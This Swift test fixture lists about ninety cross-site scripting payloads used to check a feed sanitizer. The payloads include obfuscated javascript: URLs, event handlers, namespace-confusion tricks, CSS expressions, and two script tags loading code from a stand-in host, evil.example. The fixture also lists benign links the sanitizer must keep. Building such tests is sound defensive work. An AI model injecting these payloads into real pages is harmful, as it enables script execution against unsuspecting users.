/// Script-injection vectors for the sanitizer, written for this project
/// after the kinds in the OWASP XSS filter evasion cheat sheet and the
/// DOMPurify test suite: namespace confusion (`<svg>`, `<math>`),
/// `<noscript>` and `<style>` parsing tricks, entity-, case- and
/// white-space-obfuscated `javascript:` URLs, `data:` and `vbscript:`,
/// event handlers in odd casing, `<form>`, `<base>`, `<meta refresh>`,
/// CSS `expression()` and `url()`. Each is a fragment a feed could carry in
/// its content. `SanitizerAttackTests` holds our reading of the output,
/// `BrowserSanitizerTests` a real browser's.
enum XSSVectors {
    static let all: [String] = [
        // Plain and malformed script elements.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
        "<SCRIPT/XSS SRC=\"http://evil.example/xss.js\"></SCRIPT>",
        "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>/*</script><img src=x onerror=alert(1)>*/</script>",
        // Event handlers, in odd casing and with odd separators.
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x OnErRoR=alert(1)>",
        "<img src=x onerror\n=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<BODY ONLOAD=alert('XSS')>",
        "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<xss onpointerover=alert(1)>x</xss>",
        "<img src=\"https://ok.example/a.png\" onload=\"alert(1)\">",
        // javascript: URLs, obfuscated.
        "<a href=\"javascript:alert(1)\">a</a>",
        "<a HREF=\"JaVaScRiPt:alert(1)\">a</a>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a href=\"jav\tascript:alert(1)\">tab</a>",
        "<a href=\"jav\nascript:alert(1)\">newline</a>",
        "<a href=\"jav\rascript:alert(1)\">cr</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">tab ref</a>",
        "<a href=\"jav&#x0A;ascript:alert(1)\">lf ref</a>",
        "<a href=\"jav&#x0D;ascript:alert(1)\">cr ref</a>",
        "<a href=\"jav&#10;ascript:alert(1)\">decimal lf</a>",
        "<img src=\"jav&#x0A;ascript:alert(1)\">",
        "<a href=\" &#14;  javascript:alert(1)\">leading junk</a>",
        "<a href=\"\u{01}javascript:alert(1)\">leading control</a>",
        "<a href=\"  javascript:alert(1)  \">spaces</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">decimal</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">long</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29\">hex</a>",
        "<a href=\"&#x6a;avascript&#x3a;alert(1)\">mixed</a>",
        "<a href=\"javascript&colon;alert(1)\">colon entity</a>",
        "<a href=\"java\u{0}script:alert(1)\">nul</a>",
        "<a href=\"javascript:alert(1)\" href=\"https://ok.example/\">duplicate</a>",
        // Other script-capable schemes.
        "<a href=\"vbscript:msgbox(1)\">vb</a>",
        "<a href=\"VBScript:msgbox(1)\">vb</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<a href=\"livescript:alert(1)\">live</a>",
        // Namespace confusion and parser differentials.
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"20\">x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<style><img src=x onerror=alert(1)></style>",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<noembed><img src=x onerror=alert(1)></noembed>",
        "<!--<img src=x onerror=alert(1)>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<img src=\"x`<script>alert(1)</script>\"`>",
        "<p title=\"&quot;><img src=x onerror=alert(1)>\">q</p>",
        // Forms, frames, embedding, base and meta.
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
        "<button formaction=\"javascript:alert(1)\">go</button>",
        "<input type=\"image\" src=\"javascript:alert(1)\">",
        "<isindex action=\"javascript:alert(1)\" type=image>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<applet code=\"x\"></applet>",
        "<base href=\"javascript:alert(1)//\"><a href=\"x\">rel</a>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
        // CSS.
        "<div style=\"background:url(javascript:alert(1))\">css</div>",
        "<div style=\"width: expression(alert(1))\">css</div>",
        "<p STYLE=\"behavior: url(xss.htc);\">css</p>",
        "<table background=\"javascript:alert(1)\"><tr><td>t</td></tr></table>",
        "<td background=\"javascript:alert(1)\">t</td>",
        // Benign content that must survive.
        "<a href=\"https://ok.example/?q=javascript:alert(1)\">kept</a>",
        "<a href=\"/relative/page\">relative</a>",
        "<a href=\"mailto:someone@example.org\">mail</a>",
        "<img src=\"https://ok.example/pic.png\" alt=\"pic\">",
    ]

    /// Fragments whose sanitized HTML must keep a link or image, so that a
    /// sanitizer that drops everything cannot pass.
    static let mustKeep: [(vector: String, fragment: String)] = [
        ("<a href=\"https://ok.example/?q=javascript:alert(1)\">kept</a>", "href=\"https://ok.example/?q=javascript:alert(1)\""),
        ("<a href=\"/relative/page\">relative</a>", "href=\"https://feed.example/relative/page\""),
        ("<a href=\"mailto:someone@example.org\">mail</a>", "href=\"mailto:someone@example.org\""),
        ("<img src=\"https://ok.example/pic.png\" alt=\"pic\">", "src=\"https://ok.example/pic.png\""),
        ("<base href=\"javascript:alert(1)//\"><a href=\"x\">rel</a>", "href=\"https://feed.example/post/x\""),
    ]

    static let base = "https://feed.example/post/"
}
